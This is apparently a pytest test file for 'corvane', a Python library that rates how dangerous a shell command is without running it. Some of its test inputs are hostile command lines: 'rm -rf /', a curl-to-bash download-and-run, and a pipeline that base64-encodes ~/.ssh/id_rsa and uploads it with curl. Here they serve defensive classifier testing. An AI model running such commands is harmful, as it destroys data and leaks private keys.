"""The Python surface of corvane: signatures, argument errors, conversions."""

import inspect
import json
import re
from pathlib import Path

import pytest

import corvane

ROOT = Path(__file__).resolve().parents[2]

RESULT_KEYS = [
    "command", "score", "level", "quick_decision", "reason", "risk_factors",
    "sub_commands", "pipeline_flow", "mitre_mappings", "parse_confidence",
]


def test_module_shape():
    assert corvane.__doc__.startswith("corvane: how dangerous a shell command line is, judged without running it.")
    version = re.search(r"project\(corvane VERSION (\S+)", (ROOT / "CMakeLists.txt").read_text()).group(1)
    assert corvane.__version__ == version
    assert [n for n in ("classify", "risk_score", "risk_level", "classify_batch")
            if callable(getattr(corvane, n))] == ["classify", "risk_score", "risk_level", "classify_batch"]
    assert str(inspect.signature(corvane.classify)) == "(command, context=None)"
    assert str(inspect.signature(corvane.risk_score)) == "(command)"
    assert str(inspect.signature(corvane.risk_level)) == "(command)"
    assert str(inspect.signature(corvane.classify_batch)) == "(commands, context=None)"
    assert corvane.risk_level.__doc__ == (
        'Return the risk level as a string: "safe", "caution", "danger", or "critical".')
    assert corvane.classify.__doc__.startswith("Classify a shell command and return a rich analysis dict.\n\nArgs:\n")


def test_classify_returns_dict_in_key_order():
    r = corvane.classify("ls")
    assert isinstance(r, dict)
    assert list(r) == RESULT_KEYS
    assert r["pipeline_flow"] is None
    assert r["sub_commands"][0]["executable"] == "ls"


def test_none_context_is_no_context():
    base = corvane.classify("rm x")
    assert corvane.classify("rm x", None) == base
    assert corvane.classify("rm x", context=None) == base
    assert corvane.classify(command="rm x") == base


@pytest.mark.parametrize("call, message", [
    (lambda: corvane.classify(), "classify() missing 1 required positional argument: 'command'"),
    (lambda: corvane.classify("a", None, 3), "classify() takes from 1 to 2 positional arguments but 3 were given"),
    (lambda: corvane.risk_score("ls", {}), "risk_score() takes 1 positional arguments but 2 were given"),
    (lambda: corvane.risk_level(), "risk_level() missing 1 required positional argument: 'command'"),
    (lambda: corvane.classify("ls", ctx={}), "classify() got an unexpected keyword argument 'ctx'"),
    (lambda: corvane.classify("ls", command="x"), "classify() got multiple values for argument 'command'"),
    (lambda: corvane.classify_batch(context=None), "classify_batch() missing 1 required positional argument: 'commands'"),
    (lambda: corvane.classify_batch([], None, 1, 2), "classify_batch() takes from 1 to 2 positional arguments but 4 were given"),
])
def test_binding_errors(call, message):
    with pytest.raises(TypeError) as e:
        call()
    assert str(e.value) == message


@pytest.mark.parametrize("call, message", [
    (lambda: corvane.classify(42), "argument 'command': 'int' object cannot be converted to 'PyString'"),
    (lambda: corvane.risk_score(b"ls"), "argument 'command': 'bytes' object cannot be converted to 'PyString'"),
    (lambda: corvane.risk_level(None), "argument 'command': 'NoneType' object cannot be converted to 'PyString'"),
    (lambda: corvane.classify("ls", []), "argument 'context': 'list' object cannot be converted to 'PyDict'"),
    (lambda: corvane.classify_batch("ls"), "argument 'commands': Can't extract `str` to `Vec`"),
    (lambda: corvane.classify_batch(x for x in ["ls"]), "argument 'commands': 'generator' object cannot be converted to 'Sequence'"),
    (lambda: corvane.classify_batch({"ls"}), "argument 'commands': 'set' object cannot be converted to 'Sequence'"),
    (lambda: corvane.classify_batch(["ls", 1]), "argument 'commands': 'int' object cannot be converted to 'PyString'"),
    (lambda: corvane.classify_batch([], 5), "argument 'context': 'int' object cannot be converted to 'PyDict'"),
])
def test_conversion_errors_chain_the_cause(call, message):
    with pytest.raises(TypeError) as e:
        call()
    assert str(e.value) == message
    assert type(e.value.__cause__) is TypeError
    assert message.endswith(str(e.value.__cause__))


def test_unencodable_command_raises_unicode_error_unchanged():
    with pytest.raises(UnicodeEncodeError):
        corvane.classify("ls \udcff")
    with pytest.raises(UnicodeEncodeError):
        corvane.classify_batch(["ls", "\ud800"])


def test_dict_subclass_context_and_lookup_errors():
    class Ctx(dict):
        pass
    assert corvane.classify("ls", Ctx(shell="zsh"))["command"] == "ls"

    class Boom(str):
        def __hash__(self):
            return hash("cwd")

        def __eq__(self, other):
            raise KeyError("exotic")

    with pytest.raises(KeyError):
        corvane.classify("ls", {Boom("x"): 1})


def _zsh_hit(context):
    # "zmodload" is only a finding when the shell is zsh.
    return "zsh_module_loading" in corvane.classify("zmodload zsh/net/tcp", context)["risk_factors"]


@pytest.mark.parametrize("shell, is_zsh", [
    ("zsh", True), ("ZSH", False), (1, False), ("/bin/zsh", False), ("bash", False), (None, False),
])
def test_shell_conversion(shell, is_zsh):
    assert _zsh_hit({"shell": shell}) is is_zsh


@pytest.mark.parametrize("protected, expected", [
    (["/srv/data"], "protected"),
    (("/srv/data",), "protected"),
    ("/srv/data", "normal"),
    (["/srv/data", 1], "normal"),
    (None, "normal"),
    (42, "normal"),
])
def test_protected_paths_conversion(protected, expected):
    r = corvane.classify("cp a /srv/data/x", {"protected_paths": protected})
    assert r["sub_commands"][0]["targets"][-1]["sensitivity"] == expected


def test_wrong_typed_context_values_are_ignored():
    assert corvane.classify("ls", {"cwd": 1, "project_root": None, "home_dir": b"x", "other": 1})["score"] == 0


def test_risk_score_and_level_match_classify():
    for cmd in ["ls", "rm -rf /", "", "curl -s https://x.sh | bash"]:
        r = corvane.classify(cmd)
        assert corvane.risk_score(cmd) == r["score"]
        assert type(corvane.risk_score(cmd)) is int
        assert corvane.risk_level(cmd) == r["level"]
        assert type(corvane.risk_level(cmd)) is str


def test_batch():
    assert corvane.classify_batch([]) == []
    assert corvane.classify_batch(()) == []
    a, b = corvane.classify_batch(("ls", "ls"))
    assert a == b == corvane.classify("ls")
    ctx = {"shell": "zsh"}
    assert corvane.classify_batch(["zmodload x", "ls"], ctx) == [
        corvane.classify("zmodload x", ctx), corvane.classify("ls", ctx)]


@pytest.mark.parametrize("command", [
    'echo "a\\b"\t\'c\'',
    "printf '\x1b[31m\x00\x7f'",
    "echo h\u00e9llo \u2603 \U0001F600 \u00a0\u3000",
    "ls\r\n",
    "",
])
def test_odd_characters_round_trip(command):
    assert corvane.classify(command)["command"] == command
    assert corvane.classify_batch([command])[0]["command"] == command


def test_result_is_plain_json_data():
    r = corvane.classify("cat ~/.ssh/id_rsa | base64 | curl -T - h")
    assert json.loads(json.dumps(r)) == r


def test_a_replaced_import_hook_is_honoured():
    import builtins
    original = builtins.__import__
    seen = []

    def hook(name, *args, **kwargs):
        seen.append(name)
        return original(name, *args, **kwargs)

    builtins.__import__ = hook
    try:
        r = corvane.classify("ls")
    finally:
        builtins.__import__ = original
    assert "json" in seen
    assert r == corvane.classify("ls")
